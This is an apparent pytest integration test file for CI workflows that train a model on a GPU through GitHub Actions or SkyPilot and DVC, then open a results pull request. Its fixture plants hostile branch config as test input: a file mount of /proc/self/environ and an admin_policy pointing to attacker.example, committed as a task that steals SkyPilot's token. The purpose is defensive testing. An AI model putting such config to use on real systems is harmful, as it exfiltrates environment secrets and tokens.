"""The workflows that train on a GPU: each step runs, from the branch to the pull request with the results."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest
from ci.gpu_training import BRANCH, GITHUB, SKY, WORKFLOWS, Training
from ci.retraining import history
from publish.requests.request_forges import Host, open_host
from ruamel.yaml import YAML

from headway.publish.comment import marker

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from repos import Project

RESULTS = f"headway/results/{BRANCH}"
FILES = ["dvc.lock", "reports/classes/b.txt", "reports/classes/c.txt", "reports/metrics.json", "reports/sample.bin"]
"""What training on the branch's data changes in git."""
KEYS = {"secrets.AWS_TRAIN_ACCESS_KEY_ID": "id", "secrets.AWS_TRAIN_SECRET_ACCESS_KEY": "sesame"}


@pytest.fixture(scope="module")
def untrained(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A branch with other data than main, on which nobody has trained yet; DVC's remote is a folder."""
    folder = tmp_path_factory.mktemp("untrained")
    project = history(folder / "project", folder / "store")
    project.branch(BRANCH).write("sky-train.yaml", "file_mounts: {/tmp/stolen: /proc/self/environ}\n")
    project.write(".sky.yaml", "admin_policy: https://attacker.example\n").commit("a task that steals SkyPilot's token")
    return project


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    with open_host("github", tmp_path / "host") as opened:
        yield opened


def training(path: Path, project: Project, host: Host, folder: Path) -> Training:
    project.git("push", "--quiet", "--force", f"file://{host.bare}", f"{BRANCH}~2:refs/heads/main", BRANCH)
    return Training(path, host, folder, KEYS)


def changed(host: Host) -> list[str]:
    return host.git("diff", "--name-only", "--no-renames", BRANCH, RESULTS).splitlines()


def check_stored(project: Project, host: Host) -> None:
    """The remote has the data and the model that dvc.lock names in the request."""
    lock = YAML(typ="safe").load(host.git("show", f"{RESULTS}:dvc.lock"))["stages"]["train"]
    named = {each["md5"] for each in lock["deps"] + lock["outs"] if each["path"] in {"data.csv", "model.bin"}}
    stored = {f"{path.parent.name}{path.name}" for path in (project.root.parent / "store").rglob("md5/*/*")}
    assert named <= stored


@pytest.mark.slow
@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_a_branch_becomes_a_request_with_a_report(path: Path, untrained: Project, host: Host, tmp_path: Path) -> None:
    run = training(path, untrained, host, tmp_path)
    trained = run.run("train")
    assert trained.ran[-1] == "Remove the credentials"
    assert run.outputs["changed"] == "true"
    reported = run.run("report")
    (installed,) = reported.calls
    assert "requirements.txt" not in installed, "nothing of the branch"
    sent = run.run("request")
    (request,) = host.open_requests()
    assert (request.head, request.base, request.title) == (RESULTS, BRANCH, f"Results of {BRANCH}")
    assert changed(host) == FILES
    check_stored(untrained, host)
    (comment,) = host.fake.comments(request.number)
    found = marker.read(comment.body)
    assert found is not None
    assert (found.sha, "0.9667" in comment.body) == (host.tip(RESULTS), True)
    assert [check.head_sha for check in host.fake.check_runs()] == [host.tip(RESULTS)]
    assert len(sent.calls) == 2, "of pip, with hashes: the job with the token installs little"


@pytest.mark.slow
def test_a_branch_that_moves_during_the_training_keeps_its_new_commit(
    untrained: Project, host: Host, tmp_path: Path
) -> None:
    run = training(GITHUB, untrained, host, tmp_path)
    run.run("train")
    moved = untrained.copied(tmp_path / "moved").write("train.py", "raise SystemExit(1)\n")
    moved.commit("a later commit")
    moved.git("push", "--quiet", f"file://{host.bare}", BRANCH)
    run.run("report")
    run.run("request")
    assert host.git("rev-parse", f"{RESULTS}~1") == run.commit
    assert host.git("rev-parse", f"{BRANCH}~1") == run.commit


@pytest.mark.slow
@pytest.mark.parametrize("path", [GITHUB, SKY], ids=lambda path: path.stem)
def test_a_training_that_fails_sends_nothing(path: Path, untrained: Project, host: Host, tmp_path: Path) -> None:
    broken = untrained.copied(tmp_path / "broken").write("train.py", "raise SystemExit(1)\n")
    broken.commit("broken")
    run = training(path, broken, host, tmp_path)
    failing = "Train on a GPU" if path == SKY else "Train"
    trained = run.run("train", fails=failing)
    assert trained.ran[-1] == ("Cancel the job on the GPU" if path == SKY else "Remove the credentials")
    assert "changed" not in run.outputs
    assert not run.artifacts


class TestSkyPilot:
    """The job on the plain runner waits, and takes nothing from the GPU but a patch in DVC's remote."""

    def test_the_task_trains_and_the_log_names_its_results(
        self, untrained: Project, host: Host, tmp_path: Path
    ) -> None:
        run = training(SKY, untrained, host, tmp_path)
        trained = run.run("train")
        assert json.loads(run.sky_jobs.read_text()) == {"train-1-2": "SUCCEEDED"}
        assert [call for call in trained.calls if call.startswith(("dvc repro", "dvc pu"))] == [
            "dvc repro --pull --allow-missing",
            "dvc push",
            "dvc pull results.patch.dvc",
        ]
        assert run.outputs["changed"] == "true"
        patch = (run.artifacts["headway-results"] / "results.patch").read_text()
        assert re.findall(r"^diff --git a/(\S+)", patch, re.MULTILINE) == FILES

    @pytest.mark.slow
    def test_it_trains_as_well_if_skypilot_copies_the_git_folder(
        self, untrained: Project, host: Host, tmp_path: Path
    ) -> None:
        run = training(SKY, untrained, host, tmp_path)
        run.environ = {"SKY_COPIES_GIT": "1"}
        run.run("train")
        patch = (run.artifacts["headway-results"] / "results.patch").read_text()
        assert re.findall(r"^diff --git a/(\S+)", patch, re.MULTILINE) == FILES

    @pytest.mark.slow
    def test_where_nothing_is_stale_nothing_changes(self, untrained: Project, host: Host, tmp_path: Path) -> None:
        current = untrained.copied(tmp_path / "current")
        with current.dvc() as repo:
            repo.reproduce()
        current.push().commit("trained")
        run = training(SKY, current, host, tmp_path)
        trained = run.run("train")
        assert "python train.py" not in trained.calls
        assert "changed" not in run.outputs

    @pytest.mark.slow
    def test_a_log_without_results_is_an_error(self, untrained: Project, host: Host, tmp_path: Path) -> None:
        run = training(SKY, untrained, host, tmp_path)
        run.task = re.sub(r"\n  echo .*", "", run.task)
        trained = run.run("train", fails="Take the results")
        assert trained.ran[-1] == "Remove the credentials"
        assert not run.artifacts

    def test_a_job_that_is_cancelled_cancels_the_one_on_the_gpu(
        self, untrained: Project, host: Host, tmp_path: Path
    ) -> None:
        run = training(SKY, untrained, host, tmp_path)
        step = run.step("train", "Cancel the job on the GPU")
        assert step.condition == "(failure() || cancelled()) && steps.train.outcome != 'skipped'"
        run.sky_jobs.write_text(json.dumps({"train-1-1": "RUNNING", "train-1-2": "RUNNING"}))
        assert run.machine().run(step).returncode == 0
        assert json.loads(run.sky_jobs.read_text()) == {"train-1-1": "RUNNING", "train-1-2": "CANCELLED"}
